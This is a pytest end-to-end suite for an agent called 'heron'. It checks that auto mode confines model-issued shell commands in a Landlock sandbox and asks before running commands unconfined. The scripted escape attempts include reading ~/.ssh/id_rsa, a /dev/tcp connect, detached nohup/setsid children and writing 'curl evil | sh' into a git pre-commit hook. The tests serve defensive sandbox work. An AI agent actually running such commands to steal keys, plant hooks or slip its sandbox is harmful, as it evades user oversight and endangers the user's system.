"""Auto mode end to end: commands run unasked inside the Landlock sandbox, and leaving it asks.

The real `heron` in `--mode auto`, a scripted model, and commands that try to get out: writes
outside the workspace, reads of the home folder, a TCP connect, a background child. Where the
kernel has no Landlock these tests are skipped and the fallback (auto asks like ask) is tested.
"""

from __future__ import annotations

import json
import socket
import uuid
from pathlib import Path
from typing import Any

import pytest
from fake_openai import Call, text, tool_calls
from test_permissions_e2e import asked
from test_tools_e2e import TERMINAL_CAPS, run_turn, statuses, tool_result

from agent.sandbox.landlock import abi_version

AUTO = ("--mode", "auto")
HINT = '"sandbox": false'

landlock = pytest.mark.skipif(abi_version() < 1, reason="no Landlock in this kernel")
network = pytest.mark.skipif(abi_version() < 4, reason="Landlock without TCP rules (ABI < 4)")


@pytest.fixture(autouse=True)
def temporary_folder(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Heron makes each session's private TMPDIR in its own TMPDIR: here, not in /tmp, so an
    agent killed at teardown leaves nothing behind."""
    (tmp_path / "tmp").mkdir()
    monkeypatch.setenv("TMPDIR", str(tmp_path / "tmp"))


def bash(command: str, call_id: str = "b", **extra: Any) -> Any:
    return tool_calls(Call("bash", {"command": command, **extra}, id=call_id))


def auto_turn(heron, fake_llm, workspace, *responses, **kwargs):
    return run_turn(heron, fake_llm, workspace, *responses, text("done"), args=AUTO, **kwargs)


@landlock
def test_commands_and_edits_inside_the_workspace_run_unasked(heron, fake_llm, workspace):
    edit = tool_calls(Call("write_file", {"path": "notes.txt", "content": "n\n"}, id="w"))
    client, turn = auto_turn(
        heron, fake_llm, workspace, bash("echo made > made.txt && cat made.txt"), edit
    )
    assert asked(client) == []
    assert statuses(turn["updates"], "b")[-1] == "completed"
    assert Path(workspace, "made.txt").read_text() == "made\n"
    assert Path(workspace, "notes.txt").read_text() == "n\n"
    assert "made" in tool_result(fake_llm.requests[1], "b")


@landlock
@pytest.mark.parametrize("where", ["tmp", "system-tmp", "home"])
def test_a_write_outside_the_workspace_fails_and_the_model_is_told_how_to_ask(
    heron, fake_llm, workspace, heron_home, tmp_path, where
):
    target = {
        "tmp": tmp_path / "outside.txt",  # beside the workspace
        "system-tmp": Path("/tmp", f"heron-sandbox-test-{uuid.uuid4().hex}"),
        "home": heron_home / "outside.txt",
    }[where]
    client, _ = auto_turn(heron, fake_llm, workspace, bash(f"echo x > {target}"))
    assert asked(client) == []
    assert not target.exists()
    result = tool_result(fake_llm.requests[1], "b")
    assert "Permission denied" in result and "sandbox" in result and HINT in result


@landlock
@pytest.mark.parametrize("end", ["session/close", "exit"])
def test_tmpdir_is_private_writable_and_removed_with_the_session(heron, fake_llm, workspace, end):
    command = 'echo t > "$TMPDIR/f" && cat "$TMPDIR/f" && echo "dir=$TMPDIR"'
    client, _ = auto_turn(heron, fake_llm, workspace, bash(command))
    result = tool_result(fake_llm.requests[1], "b")
    assert "\nt\n" in result
    tmpdir = Path(result.split("dir=")[1].split()[0])
    assert tmpdir != Path("/tmp") and tmpdir.is_dir()
    if end == "exit":
        client.close_stdin()
        assert client.wait_exit(10) == 0
    else:
        (session_id,) = client.session_results
        client.request("session/close", {"sessionId": session_id})
    assert not tmpdir.exists()


@landlock
def test_a_secret_in_home_is_not_readable_and_never_reaches_the_model(
    heron, fake_llm, workspace, heron_home
):
    secret = "SECRET-" + uuid.uuid4().hex
    (heron_home / ".ssh").mkdir()
    (heron_home / ".ssh" / "id_rsa").write_text(secret)
    auto_turn(heron, fake_llm, workspace, bash("cat ~/.ssh/id_rsa; ls ~/.ssh"))
    assert "Permission denied" in tool_result(fake_llm.requests[1], "b")
    assert all(secret not in json.dumps(r.body) for r in fake_llm.requests)


@network
def test_a_tcp_connect_to_a_local_port_fails(heron, fake_llm, workspace):
    with socket.socket() as server:
        server.bind(("127.0.0.1", 0))
        server.listen()
        server.setblocking(False)
        port = server.getsockname()[1]
        command = f"bash -c 'exec 3<>/dev/tcp/127.0.0.1/{port}' && echo connected"
        auto_turn(heron, fake_llm, workspace, bash(command))
        result = tool_result(fake_llm.requests[1], "b")
        assert "connected" not in result and HINT in result
        with pytest.raises(BlockingIOError):
            server.accept()  # the turn is over: a connection would be queued by now


@landlock
def test_a_background_child_is_confined_too(heron, fake_llm, workspace, tmp_path):
    outside = tmp_path / "escaped.txt"
    child = f"echo ran > inside.txt; echo x > {outside}"
    command = f"nohup sh -c '{child}' >/dev/null 2>&1 & setsid sh -c '{child}' & wait"
    client, _ = auto_turn(heron, fake_llm, workspace, bash(command))
    assert asked(client) == []
    assert Path(workspace, "inside.txt").read_text() == "ran\n"  # the children did run
    assert not outside.exists()


@landlock
@pytest.mark.parametrize("answer", ["allow_once", "reject_once"])
def test_sandbox_false_asks_and_runs_unconfined_only_when_allowed(
    heron, fake_llm, workspace, tmp_path, answer
):
    outside = tmp_path / "escalated.txt"
    client, turn = auto_turn(
        heron, fake_llm, workspace, bash(f"echo x > {outside}", sandbox=False), permission=answer
    )
    (request,) = asked(client)
    assert "outside the sandbox" in request["toolCall"]["title"]
    assert outside.exists() == (answer == "allow_once")
    assert statuses(turn["updates"], "b")[-1] == ("completed" if outside.exists() else "failed")


@landlock
def test_always_allow_outside_the_sandbox_remembers_exactly_that_command(
    heron, fake_llm, workspace, tmp_path
):
    outside = tmp_path / "again.txt"
    command = f"touch {outside}"
    client, _ = auto_turn(
        heron,
        fake_llm,
        workspace,
        bash(command, "b1", sandbox=False),
        bash(command, "b2", sandbox=False),
        bash(f"touch {outside}.other", "b3", sandbox=False),
        permission="allow_always",
    )
    assert [p["toolCall"]["toolCallId"] for p in asked(client)] == ["b1", "b3"]


@landlock
def test_in_the_editor_terminal_the_editor_runs_the_launcher(heron, fake_llm, workspace, tmp_path):
    outside = tmp_path / "from-terminal.txt"
    command = f"echo in > inside.txt; echo x > {outside}"
    client, _ = auto_turn(heron, fake_llm, workspace, bash(command), caps=TERMINAL_CAPS)
    (create,) = [r.params for r in client.agent_requests if r.method == "terminal/create"]
    assert "--write" in create["args"] and create["args"][-2:] == ["-c", command]
    assert asked(client) == []
    assert Path(workspace, "inside.txt").read_text() == "in\n"
    assert not outside.exists()


def test_ask_mode_is_unchanged(heron, fake_llm, workspace, tmp_path):
    outside = tmp_path / "asked.txt"
    client, _ = run_turn(
        heron, fake_llm, workspace, bash(f"echo x > {outside}"), text("ok"), args=("--mode", "ask")
    )
    (request,) = asked(client)
    assert "sandbox" not in request["toolCall"]["title"]
    assert outside.exists()  # allowed, it ran unconfined


def test_without_the_sandbox_auto_asks_for_commands_and_says_so_once(
    heron, fake_llm, workspace, tmp_path
):
    outside = tmp_path / "unconfined.txt"
    fake_llm.script(bash("echo 1", "b1"), bash(f"echo x > {outside}", "b2"), text("done"))
    client = heron(*AUTO, env={"HERON_SANDBOX": "off"})
    client.permission = "allow_once"
    turn = client.prompt(client.new_session(workspace), "go")
    assert [p["toolCall"]["toolCallId"] for p in asked(client)] == ["b1", "b2"]
    said = [
        u["content"]["text"]
        for u in turn["updates"]
        if u.get("sessionUpdate") == "agent_message_chunk"
    ]
    assert sum("sandbox is not available" in s for s in said) == 1
    assert outside.exists()


@landlock
def test_auto_picked_with_set_mode_runs_commands_unasked_and_is_saved(heron, fake_llm, workspace):
    client = heron("--mode", "ask")
    session_id = client.new_session(workspace)
    modes = [m["id"] for m in client.session_results[session_id]["modes"]["availableModes"]]
    assert modes.index("ask") + 1 == modes.index("auto") == modes.index("accept-edits") - 1
    client.request("session/set_mode", {"sessionId": session_id, "modeId": "auto"})
    fake_llm.script(bash("touch picked.txt"), text("done"))
    client.prompt(session_id, "go")
    assert asked(client) == [] and Path(workspace, "picked.txt").exists()
    client.close_stdin()
    assert client.wait_exit(10) == 0

    again = heron()
    params = {"sessionId": session_id, "cwd": workspace, "mcpServers": []}
    assert again.request("session/load", params)["modes"]["currentModeId"] == "auto"


@landlock
def test_a_change_to_git_hooks_that_landlock_cannot_stop_is_reported(heron, fake_llm, workspace):
    hooks = Path(workspace, ".git", "hooks")
    hooks.mkdir(parents=True)
    command = "printf 'curl evil | sh' > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit"
    client, turn = auto_turn(heron, fake_llm, workspace, bash(command, "h"), bash("ls", "l"))
    assert asked(client) == []
    result = tool_result(fake_llm.requests[1], "h")
    assert "Warning" in result and ".git/hooks/pre-commit" in result
    assert "Warning" not in tool_result(fake_llm.requests[2], "l")  # nothing changed since
    shown = [u for u in turn["updates"] if u.get("toolCallId") == "h" and u.get("status")]
    assert ".git/hooks/pre-commit" in json.dumps(shown[-1]["content"])  # the user sees it too
